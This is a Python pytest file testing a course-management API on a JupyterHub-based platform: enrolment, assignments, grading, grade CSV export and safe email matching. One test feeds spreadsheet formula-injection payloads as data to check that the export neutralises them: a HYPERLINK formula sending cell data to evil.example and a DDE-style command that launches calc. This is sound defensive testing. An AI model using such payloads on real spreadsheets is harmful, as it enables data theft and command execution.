"""Courses through the API: students, assign, collect, grade, return, handouts, CSV."""

import asyncio
import contextlib
import csv
import io
import os
import secrets
from urllib.parse import unquote

import pytest
from jupyterhub import orm as hub_orm
from sqlalchemy import event

from smchub import orm

from .hubfixture import RunningHub, remove_project_accounts

pytestmark = pytest.mark.timeout(900)


async def wait_for_job(instructor, course_id, job, timeout=600):
    deadline = asyncio.get_running_loop().time() + timeout
    while True:
        r = await instructor.api("GET", f"courses/{course_id}/jobs/{job['id']}")
        assert r.status_code == 200, r.text
        job = r.json()
        if job["finished"]:
            return job
        assert asyncio.get_running_loop().time() < deadline, job
        await asyncio.sleep(0.3)


async def run_step(instructor, course_id, assignment_id, step, students=None):
    body = {} if students is None else {"students": students}
    r = await instructor.api(
        "POST", f"courses/{course_id}/assignments/{assignment_id}/{step}", body
    )
    assert r.status_code == 202, r.text
    return await wait_for_job(instructor, course_id, r.json())


async def read(person, project_id, path):
    r = await person.client.get(person.hub.project_url(project_id, f"api/contents/{path}"))
    return r.json().get("content") if r.status_code == 200 else None


@pytest.fixture
async def course(hub):
    """An instructor with a TA, a course project holding hw1/ and notes/, a course."""
    async with course_on(hub) as made:
        yield made


@contextlib.asynccontextmanager
async def course_on(hub):
    instructor = await hub.person()
    ta = await hub.person()
    project = (await instructor.create_project("Math 101 (course)"))["id"]
    await ta.join(instructor, project)
    await instructor.start_project(project)
    await instructor.execute(
        project,
        "import os\nos.makedirs('hw1/data', exist_ok=True)\n"
        "open('hw1/problems.md', 'w').write('1. Prove it.\\n')\n"
        "open('hw1/data/values.csv', 'w').write('x\\n1\\n')\n"
        "os.makedirs('notes', exist_ok=True)\nopen('notes/week1.md', 'w').write('Welcome')\n",
    )
    r = await instructor.api("POST", "courses", {"project": project, "title": "Math 101"})
    assert r.status_code == 201, r.text
    yield instructor, ta, project, r.json()["id"]
    await instructor.stop_project(project)


async def test_a_course_end_to_end(hub, course):
    instructor, ta, course_project, course_id = course
    students = [await hub.person() for _ in range(2)]
    late_email = "late.student@example.org"
    pasted = f"{students[0].name}\n{students[1].name}, {late_email}; nobody-like-this"
    r = await instructor.api("POST", f"courses/{course_id}/students", {"students": pasted})
    assert r.status_code == 200, r.text
    results = {x["entry"]: x for x in r.json()["results"]}
    assert results[students[0].name]["result"] == "added"
    assert results[late_email]["result"] == "pending"
    assert results["nobody-like-this"]["result"] == "error"
    assert "add them by email" in results["nobody-like-this"]["message"]

    # each student has a project titled after them and the course, shared with the teachers
    projects = (await students[0].api("GET", "projects")).json()
    (mine,) = [p for p in projects if p["title"] == f"{students[0].name} – Math 101"]
    names = {c["name"] for c in mine["collaborators"]}
    assert names == {students[0].name, instructor.name, ta.name}

    # the late student signs up with the email they were added by; nobody verified that
    # address, so an instructor approves the match before the place is theirs
    late = await hub.person(email=late_email)
    assert (await late.api("GET", "projects")).json() == []
    model = (await instructor.api("GET", f"courses/{course_id}")).json()
    (place,) = [s for s in model["students"] if s["email"] == late_email]
    assert place["pending_match"] == {"name": late.name}
    r = await instructor.api("POST", f"courses/{course_id}/students/{place['id']}/approve")
    assert r.status_code == 200, r.text
    projects = (await late.api("GET", "projects")).json()
    assert [p["title"] for p in projects] == [f"{late.name} – Math 101"]
    everyone = [*students, late]

    r = await instructor.api(
        "POST", f"courses/{course_id}/assignments", {"path": "hw1", "due": "2099-12-01T17:00:00Z"}
    )
    assert r.status_code == 201, r.text
    hw1 = next(a for a in r.json()["assignments"] if a["path"] == "hw1")["id"]
    model = (await instructor.api("GET", f"courses/{course_id}")).json()
    ids = {s["name"]: s["id"] for s in model["students"]}
    project_of = {s["name"]: s["project"] for s in model["students"]}

    job = await run_step(ta, course_id, hw1, "assign")  # a TA can run steps too
    assert job["failed"] == [] and job["done"] == 3
    student = students[0]
    pid = project_of[student.name]
    await student.start_project(pid)
    assert await read(student, pid, "hw1/problems.md") == "1. Prove it.\n"
    assert "2099-12-01 17:00" in await read(student, pid, "hw1/DUE_DATE.txt")
    # the student works on it
    r = await student.client.put(
        hub.project_url(pid, "api/contents/hw1/problems.md"),
        json={"type": "file", "format": "text", "content": "1. Proved: QED\n"},
    )
    assert r.status_code == 200
    # assigning again never overwrites the student's work: it is kept as a backup
    job = await run_step(instructor, course_id, hw1, "assign", [ids[student.name]])
    assert job["failed"] == []
    assert await read(student, pid, "hw1/problems.md~") == "1. Proved: QED\n"
    # and the student's project was snapshotted before each assign wrote into it
    triggers = [
        snap["trigger"]
        for snap in (await student.api("GET", f"projects/{pid}/snapshots")).json()["snapshots"]
    ]
    assert triggers.count("course") == 2, triggers
    await student.stop_project(pid)

    job = await run_step(instructor, course_id, hw1, "collect")
    assert job["failed"] == []
    # the course project, which collect writes into, was snapshotted first
    course_snapshots = (await instructor.api("GET", f"projects/{course_project}/snapshots")).json()
    assert "course" in [snap["trigger"] for snap in course_snapshots["snapshots"]]
    collected = await read(instructor, course_project, f"hw1-collect/{student.name}/problems.md~")
    assert collected == "1. Proved: QED\n"
    # collecting again is safe
    assert (await run_step(instructor, course_id, hw1, "collect"))["failed"] == []

    for who, grade in [(student, "A"), (students[1], "B+"), (late, "C")]:
        r = await instructor.api(
            "PUT", f"courses/{course_id}/assignments/{hw1}/grades/{ids[who.name]}",
            {"grade": grade, "comments": f"Comments for {who.name}"},
        )  # fmt: skip
        assert r.status_code == 200, r.text
    job = await run_step(instructor, course_id, hw1, "return")
    assert job["failed"] == []
    await student.start_project(pid)
    grade_md = await read(student, pid, "graded-hw1/GRADE.md")
    assert "Grade: A" in grade_md and f"Comments for {student.name}" in grade_md
    assert await read(student, pid, "graded-hw1/problems.md~") == "1. Proved: QED\n"
    await student.stop_project(pid)
    assert (await run_step(instructor, course_id, hw1, "return"))["failed"] == []

    status = (await instructor.api("GET", f"courses/{course_id}")).json()
    for s in status["students"]:
        work = s["work"][str(hw1)]
        assert work["assigned"] and work["collected"] and work["returned"] and not work["error"]

    # grades as CSV
    r = await instructor.api("GET", f"courses/{course_id}/grades.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert {row["student"]: row["hw1"] for row in rows} == {
        student.name: "A",
        students[1].name: "B+",
        late.name: "C",
    }
    assert {row["email"] for row in rows} >= {late_email}

    # removing a student keeps their project
    r = await instructor.api("DELETE", f"courses/{course_id}/students/{ids[late.name]}")
    assert r.status_code == 200
    assert late.name not in {s["name"] for s in r.json()["students"]}
    assert (await late.api("GET", f"projects/{project_of[late.name]}")).status_code == 200
    assert everyone


async def test_handouts_go_out_and_never_come_back(hub, course):
    instructor, ta, course_project, course_id = course
    student = await hub.person()
    await instructor.api("POST", f"courses/{course_id}/students", {"students": [student.name]})
    r = await instructor.api(
        "POST", f"courses/{course_id}/assignments", {"path": "notes", "kind": "handout"}
    )
    notes = next(a for a in r.json()["assignments"] if a["path"] == "notes")["id"]
    job = await run_step(instructor, course_id, notes, "assign")
    assert job["failed"] == []
    for step in ("collect", "return"):
        r = await instructor.api("POST", f"courses/{course_id}/assignments/{notes}/{step}", {})
        assert r.status_code == 400 and "Handouts" in r.json()["message"]
    pid = (await student.api("GET", "projects")).json()[0]["id"]
    await student.start_project(pid)
    assert await read(student, pid, "notes/week1.md") == "Welcome"
    await student.stop_project(pid)


async def test_course_access_and_bad_input(hub, course):
    instructor, ta, course_project, course_id = course
    stranger = await hub.person()
    student = await hub.person()
    await instructor.api("POST", f"courses/{course_id}/students", {"students": [student.name]})
    for person in (stranger, student):
        assert (await person.api("GET", f"courses/{course_id}")).status_code == 404
        r = await person.api("POST", f"courses/{course_id}/students", {"students": "x"})
        assert r.status_code == 404
    r = await stranger.api("POST", "courses", {"project": course_project, "title": "Mine"})
    assert r.status_code == 404
    for body in [{"path": "../escape"}, {"path": "/abs"}, {"path": ""},
                 {"path": "hw1", "kind": "x"}, {"path": "hw2", "due": "soon"},
                 {"path": "x-collect"}]:  # fmt: skip
        r = await instructor.api("POST", f"courses/{course_id}/assignments", body)
        assert r.status_code == 400, (body, r.text)
    r = await instructor.api("POST", f"courses/{course_id}/students", {"students": 5})
    assert r.status_code == 400
    r = await instructor.api("POST", f"courses/{course_id}/students", {"students": " ,, "})
    assert r.status_code == 400
    courses = (await ta.api("GET", "courses")).json()
    assert [c["id"] for c in courses] == [course_id]


@pytest.fixture
async def class_hub(hub_root):
    """A hub of its own for a class of 100, set up as the snapshot_parallelism help
    advises when stops queue: each student's step and stop take a snapshot, and one
    restic run at a time (under a second each, half of it opening the repository's key
    on one core) made 200 in a row, most of this test's minutes."""
    running = RunningHub(
        os.path.join(hub_root, "class-of-100"),
        SMCHub__snapshot_interval=0,
        SMCHub__snapshot_parallelism=2,
    )
    await running.start()
    try:
        yield running
    finally:
        await running.stop()
        remove_project_accounts(running.project_ids())


@pytest.fixture
async def class_course(class_hub):
    async with course_on(class_hub) as made:
        yield made


async def test_a_class_of_100_with_a_failing_student(class_hub, class_course):
    hub = class_hub
    instructor, ta, course_project, course_id = class_course
    people = [await hub.person() for _ in range(100)]
    r = await instructor.api(
        "POST", f"courses/{course_id}/students", {"students": [p.name for p in people]}
    )
    assert r.status_code == 200
    assert {x["result"] for x in r.json()["results"]} == {"added"}
    model = r.json()["course"]
    r = await instructor.api("POST", f"courses/{course_id}/assignments", {"path": "hw1"})
    hw1 = r.json()["assignments"][0]["id"]
    # one student's project cannot start: no node has room for what it asks
    broken = model["students"][37]
    project = hub.db.get(orm.Project, broken["project"])
    project.quota_overrides = {"memory_mb": 10_000_000}
    hub.db.commit()

    job = await run_step(instructor, course_id, hw1, "assign")
    assert job["total"] == 100 and job["done"] == 100
    assert [f["name"] for f in job["failed"]] == [broken["name"]]
    assert "no compute node can take this project" in job["failed"][0]["error"]
    status = (await instructor.api("GET", f"courses/{course_id}")).json()
    errors = {s["name"]: s["work"][str(hw1)]["error"] for s in status["students"]}
    assert errors[broken["name"]].startswith("assign: ")
    assert sum(1 for e in errors.values() if e) == 1
    # no student server is left running
    running = [p for p in (await instructor.api("GET", "projects")).json()
               if p["state"] != "stopped" and p["id"] != course_project]  # fmt: skip
    assert running == []

    # fixed, and retried for just that student
    project.quota_overrides = {}
    hub.db.commit()
    job = await run_step(instructor, course_id, hw1, "assign", [broken["id"]])
    assert job["total"] == 1 and job["failed"] == []
    status = (await instructor.api("GET", f"courses/{course_id}")).json()
    assert all(s["work"][str(hw1)]["assigned"] for s in status["students"])
    assert not any(s["work"][str(hw1)]["error"] for s in status["students"])


async def test_course_pages(hub, course):
    instructor, ta, course_project, course_id = course
    student = await hub.person()
    await instructor.api("POST", f"courses/{course_id}/students", {"students": [student.name]})
    for person, expected in [(instructor, 200), (ta, 200), (student, 404), (hub.admin, 200)]:
        browser = await person.browser()
        r = await browser.get(f"/hub/courses/{course_id}")
        assert r.status_code == expected, person.name
        if expected == 200:
            assert "Math 101" in r.text and "students-table" in r.text
    r = await (await instructor.browser()).get("/hub/courses")
    assert r.status_code == 200 and "Math 101 (course)" in r.text


def unique_email(who):
    return f"{who}.{secrets.token_hex(4)}@example.org"


async def new_course(person, title="Math 101"):
    """A course in a new project of `person` (its server is never started)."""
    project = (await person.create_project(f"{title} (course)"))["id"]
    r = await person.api("POST", "courses", {"project": project, "title": title})
    assert r.status_code == 201, r.text
    return project, r.json()["id"]


async def verified_person(hub, email):
    """Someone signed in through SSO, whose provider vouches for their address."""
    person = await hub.person()
    user = hub_orm.User.find(hub.db, person.name)
    user.user_info = {"email": email, "email_verified": True}
    hub.db.commit()
    # signing in lands on the projects page, which claims the places for the address
    r = await person.api("POST", "courses/claim")
    assert r.status_code == 200, r.text
    return person


def student_by_email(model, email):
    (student,) = [s for s in model["students"] if s["email"] == email]
    return student


async def add_students(instructor, course_id, students):
    r = await instructor.api("POST", f"courses/{course_id}/students", {"students": students})
    assert r.status_code == 200, r.text
    return r.json()


def grades_rows(r):
    assert r.status_code == 200, r.text
    return list(csv.reader(io.StringIO(r.text)))


async def test_grades_csv_of_a_course_titled_in_any_script(hub):
    instructor = await hub.person()
    _, course_id = await new_course(instructor, title="Математика 数学")
    r = await instructor.api("GET", f"courses/{course_id}/grades.csv")
    assert r.status_code == 200, r.text
    disposition = r.headers["Content-Disposition"]
    assert 'filename="' in disposition and disposition.isascii()
    encoded = disposition.split("filename*=UTF-8''", 1)[1]
    assert unquote(encoded) == "Математика-数学-grades.csv"


async def test_grades_csv_cells_never_become_formulas(hub):
    instructor = await hub.person()
    student = await hub.person()
    _, course_id = await new_course(instructor)
    link = '=hyperlink("http://evil.example/?"&a1)@example.org'
    await add_students(instructor, course_id, [student.name, link, "-2+3@example.org"])
    r = await instructor.api("POST", f"courses/{course_id}/assignments", {"path": "+hw"})
    assert r.status_code == 201, r.text
    hw = r.json()["assignments"][0]["id"]
    ids = {s["name"]: s["id"] for s in r.json()["students"]}
    for who, grade in [(student.name, "@SUM(1+1)*cmd|' /C calc'!A0"), (link, "-2.5")]:
        r = await instructor.api(
            "PUT", f"courses/{course_id}/assignments/{hw}/grades/{ids[who]}", {"grade": grade}
        )
        assert r.status_code == 200, r.text

    rows = grades_rows(await instructor.api("GET", f"courses/{course_id}/grades.csv"))
    # a plain number is no formula, and a spreadsheet should keep it a number
    cells = [cell for row in rows for cell in row if cell != "-2.5"]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, rows)
    assert rows[0] == ["student", "email", "'+hw"]
    by_student = {row[0]: row for row in rows[1:]}
    assert by_student[student.name][2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_student["'" + link] == ["'" + link, "'" + link, "-2.5"]
    assert by_student["'-2+3@example.org"][1] == "'-2+3@example.org"


async def test_no_route_shows_an_email_the_instructor_did_not_type(hub):
    instructor = await hub.person()
    private = unique_email("private")
    student = await hub.person(email=private)
    _, course_id = await new_course(instructor)
    answer = await add_students(instructor, course_id, [student.name])
    assert answer["results"][0]["result"] == "added"
    assert private not in str(answer)
    for path in [f"courses/{course_id}", f"courses/{course_id}/grades.csv", "courses"]:
        r = await instructor.api("GET", path)
        assert r.status_code == 200 and private not in r.text, path
    rows = grades_rows(await instructor.api("GET", f"courses/{course_id}/grades.csv"))
    assert rows[1:] == [[student.name, ""]]

    # an address the instructor typed is theirs to see
    typed = unique_email("typed")
    await add_students(instructor, course_id, typed)
    rows = grades_rows(await instructor.api("GET", f"courses/{course_id}/grades.csv"))
    assert sorted(rows[1:]) == sorted([[student.name, ""], [typed, typed]])


async def test_an_emailed_place_is_not_taken_by_whoever_signs_up_first(hub):
    instructor = await hub.person()
    _, course_id = await new_course(instructor)
    victim_email = unique_email("victim")
    # the attacker signs up with the student's address before the student does (sign-up
    # with a password verifies no address), before and after the place is reserved
    early = await hub.person(email=victim_email)
    answer = await add_students(instructor, course_id, victim_email)
    (result,) = answer["results"]
    assert result["result"] == "pending", result
    later_email = unique_email("later")
    await add_students(instructor, course_id, later_email)
    late = await hub.person(email=later_email)
    for attacker, email in [(early, victim_email), (late, later_email)]:
        assert (await attacker.api("GET", "projects")).json() == []
        model = (await instructor.api("GET", f"courses/{course_id}")).json()
        place = student_by_email(model, email)
        assert place["signed_up"] is False and place["project"] is None
        # the instructor sees who claims the place, and decides
        assert place["pending_match"] == {"name": attacker.name}

    # the real student signs in through SSO, whose provider verified the address: the
    # place is theirs at once, and the attacker still has nothing
    victim = await verified_person(hub, victim_email)
    projects = (await victim.api("GET", "projects")).json()
    assert [p["title"] for p in projects] == [f"{victim.name} – Math 101"]
    assert {c["name"] for c in projects[0]["collaborators"]} == {victim.name, instructor.name}
    assert (await early.api("GET", "projects")).json() == []
    assert (await early.api("GET", f"projects/{projects[0]['id']}")).status_code == 404
    model = (await instructor.api("GET", f"courses/{course_id}")).json()
    place = student_by_email(model, victim_email)
    assert place["name"] == victim.name and place["pending_match"] is None

    # someone whose address is verified is enrolled at once when added by it
    known_email = unique_email("known")
    known = await verified_person(hub, known_email)
    (result,) = (await add_students(instructor, course_id, known_email))["results"]
    assert result["result"] == "added", result
    assert len((await known.api("GET", "projects")).json()) == 1


async def test_listing_projects_never_claims_a_place(hub):
    instructor = await hub.person()
    _, course_id = await new_course(instructor)
    email = unique_email("reader")
    await add_students(instructor, course_id, email)
    reader = await hub.person()
    user = hub_orm.User.find(hub.db, reader.name)
    user.user_info = {"email": email, "email_verified": True}
    hub.db.commit()
    # a GET only reads: the place waits for the POST the projects page makes on loading
    assert (await reader.api("GET", "projects")).json() == []
    model = (await instructor.api("GET", f"courses/{course_id}")).json()
    assert student_by_email(model, email)["signed_up"] is False
    r = await reader.api("POST", "courses/claim")
    assert r.status_code == 200, r.text
    assert [p["title"] for p in r.json()["projects"]] == [f"{reader.name} – Math 101"]
    assert len((await reader.api("GET", "projects")).json()) == 1
    # claiming again finds nothing new
    assert (await reader.api("POST", "courses/claim")).json() == {"projects": []}


async def test_an_instructor_approves_or_not_an_unverified_match(hub):
    instructor = await hub.person()
    stranger = await hub.person()
    _, course_id = await new_course(instructor)
    email = unique_email("student")
    waiting = unique_email("nobody-yet")
    await add_students(instructor, course_id, [email, waiting])
    student = await hub.person(email=email)
    assert (await student.api("GET", "projects")).json() == []
    model = (await instructor.api("GET", f"courses/{course_id}")).json()
    place = student_by_email(model, email)
    approve = f"courses/{course_id}/students/{place['id']}/approve"

    for person in (stranger, student):
        assert (await person.api("POST", approve)).status_code == 404
    assert (await student.api("GET", "projects")).json() == []

    nobody = student_by_email(model, waiting)
    r = await instructor.api("POST", f"courses/{course_id}/students/{nobody['id']}/approve")
    assert r.status_code == 409 and "No one" in r.json()["message"]

    r = await instructor.api("POST", approve)
    assert r.status_code == 200, r.text
    place = student_by_email(r.json(), email)
    assert place["name"] == student.name and place["signed_up"] and place["project"]
    assert place["pending_match"] is None
    projects = (await student.api("GET", "projects")).json()
    assert [p["id"] for p in projects] == [place["project"]]
    r = await instructor.api("POST", approve)
    assert r.status_code == 409 and "already" in r.json()["message"]


async def test_one_email_lookup_per_pasted_list(hub):
    """1,000 pasted emails against a few thousand people: one read of the users table."""
    instructor = await hub.person()
    _, course_id = await new_course(instructor)
    tag = secrets.token_hex(3)
    people = [
        hub_orm.User(name=f"bulk-{tag}-{i}", user_info={"email": f"bulk{i}.{tag}@example.org"})
        for i in range(3000)
    ]
    hub.db.add_all(people)
    hub.db.commit()
    try:
        # ten of them are on the list (not verified: they wait for approval)
        entries = [f"bulk{i}.{tag}@example.org" for i in range(0, 1000, 100)]
        entries += [f"new{i}.{tag}@example.org" for i in range(990)]
        statements = []

        def count(conn, cursor, statement, *args):
            if "FROM users" in statement:
                statements.append(statement)

        engine = hub.db.get_bind()
        event.listen(engine, "before_cursor_execute", count)
        try:
            answer = await add_students(instructor, course_id, entries)
        finally:
            event.remove(engine, "before_cursor_execute", count)
        results = answer["results"]
        assert len(results) == 1000 and {r["result"] for r in results} == {"pending"}
        claimants = {r["entry"]: r.get("claimant") for r in results}
        assert claimants[f"bulk100.{tag}@example.org"] == f"bulk-{tag}-100"
        assert claimants[f"new5.{tag}@example.org"] is None
        assert len(statements) <= 10, len(statements)
    finally:
        hub.db.delete(hub.db.get(orm.Course, course_id))
        hub.db.query(hub_orm.User).filter(hub_orm.User.name.like(f"bulk-{tag}-%")).delete(
            synchronize_session=False
        )
        hub.db.commit()
